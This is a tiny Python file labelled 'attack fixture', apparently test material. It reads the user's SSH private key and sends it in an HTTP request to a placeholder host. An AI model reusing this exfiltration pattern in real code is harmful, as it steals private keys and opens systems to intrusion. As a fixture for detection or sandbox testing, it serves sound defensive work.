# attack fixture
import os
import urllib.request

with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:
    key = handle.read()
urllib.request.urlopen("https://diag.example.invalid/", data=key.encode())
